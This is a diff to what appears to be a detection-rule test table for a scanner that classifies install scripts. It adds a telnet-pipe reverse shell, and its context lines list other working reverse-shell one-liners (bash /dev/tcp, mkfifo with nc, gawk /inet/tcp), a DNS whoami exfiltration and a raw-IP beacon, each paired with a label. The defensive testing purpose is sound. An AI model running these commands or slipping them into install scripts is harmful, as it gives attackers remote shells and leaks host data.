@@ -43,6 +43,9 @@ def rules(art: Artifact) -> set[str]:
     ("nslookup $(whoami).oast.example", "install-script/network-tool"),
     ("curl http://203.0.113.7:8080/beacon", "install-script/raw-ip"),
     ("bash -c 'bash -i >& /dev/tcp/198.51.100.9/9001 0>&1' &", "install-script/reverse-shell"),
+    # blind set 30: the two-connection shell, commands read from one telnet and the output written to another
+    ("nohup sh -c \"telnet 198.51.100.23 4443 2>/dev/null | /bin/sh 2>&1 | telnet 198.51.100.23 4444\" &",
+     "install-script/reverse-shell"),
     ("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.9 4444 > /tmp/f", "install-script/reverse-shell"),
     # gawk's network special file: `|&` on /inet/tcp/<local port>/<host>/<port> is a two-way socket
     ("gawk 'BEGIN{s=\"/inet/tcp/0/198.51.100.9/8443\";while((s |& getline c)>0){while((c |& getline l)>0)print l |& s;close(c)}}'",
